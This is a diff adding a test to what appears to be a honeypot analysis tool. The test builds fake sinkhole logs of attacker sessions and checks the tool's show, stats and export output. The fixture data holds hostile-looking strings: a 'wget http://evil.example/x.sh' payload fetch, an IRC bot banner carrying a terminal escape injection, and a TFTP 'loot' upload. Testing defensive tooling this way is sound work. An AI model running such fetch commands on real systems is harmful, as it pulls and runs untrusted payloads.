@@ -462,6 +462,120 @@ def test_artifacts_and_export_from_a_log_alone(tmp_path):
     assert cli(conf, "show", "ab").returncode == 0  # still shown, as the log has it
 
 
+def test_network_activity_shown_and_counted(tmp_path):
+    """No daemon: the sinkhole's events (egress.*, file.downloaded) in a log, as `show` and `stats`
+    tell them; attacker text in them kept off the terminal as everywhere else."""
+    cfg = base_config(tmp_path, free_port())
+    conf = tmp_path / "hermes.yaml"
+    write_config(conf, cfg)
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    a, b = "a" * 32, "b" * 32
+    payload, other = sha256_bytes(b"#!/bin/sh\n"), sha256_bytes(b"\x7fELF")
+
+    def ts(n):
+        return f"2026-12-05T10:00:{n:02d}.000000Z"
+
+    def box(name, sid, n, **fields):
+        return event(name, sid, ts(n), container_id="c0ffee", box_ip="10.77.0.2", **fields)
+
+    def http(sid, n, url, host, status, sha=None, **fields):
+        return box("egress.http", sid, n, method="GET", url=url, host=host, dst="10.77.0.1",
+                   dport=80, sport=40000 + n, headers=[["Host", host]], fetch="live",
+                   status=status, **({"sha256": sha} if sha else {}), **fields)
+
+    def downloaded(sid, n, url, sha, source):
+        return box("file.downloaded", sid, n, url=url, sha256=sha, size=10,
+                   content_type="text/x-sh", source=source, cmdline=f"wget {url}")
+
+    (logs / "events.jsonl").write_text(
+        event("session.connect", a, ts(0), dst_port=22) +
+        box("egress.dns", a, 1, server="10.77.0.1", query="Evil.Example", qtype="A",
+            answer="10.77.0.1", rcode=0) +
+        http(a, 2, "http://evil.example/x.sh", "evil.example", 200, payload,
+             cmdline="wget http://evil.example/x.sh", user_agent="Wget/1.21", bytes=10) +
+        downloaded(a, 2, "http://evil.example/x.sh", payload, "live") +
+        box("egress.dns", a, 3, server="10.77.0.1", rcode=1, bytes=7) +
+        box("egress.connect", a, 4, proto="tcp", dst="10.77.0.9", dport=6667, sport=40100,
+            bytes=20, head="NICK bot\r\n\x1b]0;owned\x07", host="irc.example") +
+        box("egress.connect", a, 5, proto="udp", dst="10.77.0.1", dport=69, sport=40200,
+            tftp="write", url="tftp://10.77.0.1/loot") +
+        box("egress.limited", a, 6, connections_refused=3, events_dropped=1) +
+        box("egress.smtp", a, 7, dst="10.77.0.25", dport=25, helo="bot", mail_from="x@example",
+            rcpt_to=["y@example", "z@example"], bytes=99, subject="hi") +
+        event("session.connect", b, ts(10), dst_port=22) +
+        box("egress.dns", b, 11, server="10.77.0.1", query="evil.example", qtype="A",
+            answer="10.77.0.1", rcode=0) +
+        # The same body from another URL, from the cache; another body; a box with no session.
+        http(b, 12, "http://mirror.example/x.sh", "mirror.example", 200, payload) +
+        downloaded(b, 12, "http://mirror.example/x.sh", payload, "cache") +
+        http(b, 13, "http://evil.example/x.sh", "evil.example", 404) +
+        http(b, 14, "http://evil.example/bot", "evil.example", 200, other) +
+        downloaded(b, 14, "http://evil.example/bot", other, "live") +
+        downloaded(None, 15, "http://mirror.example/x.sh", payload, "cache"))
+
+    shown = cli_json(conf, "show", a)
+    assert [(x["query"], x["qtype"], x["answer"], x["rcode"]) for x in shown["dns"]] == [
+        ("Evil.Example", "A", "10.77.0.1", 0), (None, None, None, 1)]
+    assert shown["dns"][1]["detail"] == {"rcode": 1, "bytes": 7, "container_id": "c0ffee",
+                                         "box_ip": "10.77.0.2"}
+    [req] = shown["http"]
+    assert (req["method"], req["url"], req["status"], req["fetch"], req["sha256"],
+            req["cmdline"]) == ("GET", "http://evil.example/x.sh", 200, "live", payload,
+                                "wget http://evil.example/x.sh")
+    assert req["detail"]["headers"] == [["Host", "evil.example"]]
+    assert req["detail"]["user_agent"] == "Wget/1.21" and "error" not in req["detail"]
+    conns = shown["connections"]
+    assert [(x["kind"], x["proto"], x["dst"], x["dport"]) for x in conns] == [
+        ("connect", "tcp", "10.77.0.9", 6667), ("connect", "udp", "10.77.0.1", 69),
+        ("limited", None, None, None), ("smtp", "tcp", "10.77.0.25", 25)]
+    assert conns[0]["host"] == "irc.example" and conns[0]["what"].startswith("NICK bot")
+    assert (conns[1]["url"], conns[1]["what"]) == ("tftp://10.77.0.1/loot", "tftp write")
+    assert conns[2]["what"] == "connections refused: 3, events dropped: 1"
+    assert conns[3]["what"] == "mail from x@example to y@example, z@example: hi"
+    assert [(x["url"], x["sha256"], x["size"], x["source"]) for x in shown["downloads"]] == [
+        ("http://evil.example/x.sh", payload, 10, "live")]
+    assert cli_json(conf, "show", b)["downloads"][0]["source"] == "cache"
+
+    text = cli(conf, "show", a).stdout.decode()
+    for title in ("DNS queries", "HTTP requests", "Other connections", "Downloads"):
+        assert f"\n{title}\n" in text, title
+    assert "wget http://evil.example/x.sh" in text and "DETAIL" not in text
+    assert "\x1b" not in text and "NICK bot\\x0d\\x0a\\x1b]0;owned\\x07" in text
+
+    stats = cli_json(conf, "stats")
+    assert stats["urls"][:2] == [
+        {"url": "http://evil.example/x.sh", "times": 2, "sessions": 2},
+        {"url": "http://evil.example/bot", "times": 1, "sessions": 1}]
+    assert {"url": "tftp://10.77.0.1/loot", "times": 1, "sessions": 1} in stats["urls"]
+    # Both sessions looked it up (one in capitals) and asked for it three times.
+    assert stats["domains"] == [
+        {"domain": "evil.example", "queries": 2, "requests": 3, "sessions": 2},
+        {"domain": "mirror.example", "queries": 0, "requests": 1, "sessions": 1}]
+    # A payload with the URL it first came from; the box with no session is not a session.
+    assert stats["payloads"] == [
+        {"sha256": payload, "url": "http://evil.example/x.sh", "size": 10,
+         "first": "2026-12-05 10:00:02", "downloads": 3, "sessions": 2},
+        {"sha256": other, "url": "http://evil.example/bot", "size": 10,
+         "first": "2026-12-05 10:00:14", "downloads": 1, "sessions": 1}]
+    later = cli_json(conf, "stats", "--since", "2026-12-05T10:00:13")
+    assert [x["sha256"] for x in later["payloads"]] == [other, payload]
+    assert later["payloads"][1]["url"] == "http://mirror.example/x.sh"
+    assert [x["domain"] for x in later["domains"]] == ["evil.example"]
+    text = cli(conf, "stats").stdout.decode()
+    for title in ("URLs requested", "Domains", "Payloads"):
+        assert f"\n{title}" in text, title
+
+    # Exported with the body its box downloaded, as the store keeps it.
+    store = tmp_path / "artifacts"
+    store.mkdir()
+    (store / payload).write_bytes(b"#!/bin/sh\n")
+    out = tmp_path / "out"
+    cli(conf, "export", a, str(out))
+    assert files_under(out) == ["artifacts/" + payload, "events.jsonl", "session.json"]
+    assert json.loads((out / "session.json").read_text()) == shown
+
+
 def test_the_daemon_keeps_the_index_current(hermes):
     """No analyst command runs here: the daemon's indexer child writes the rows."""
     import sqlite3
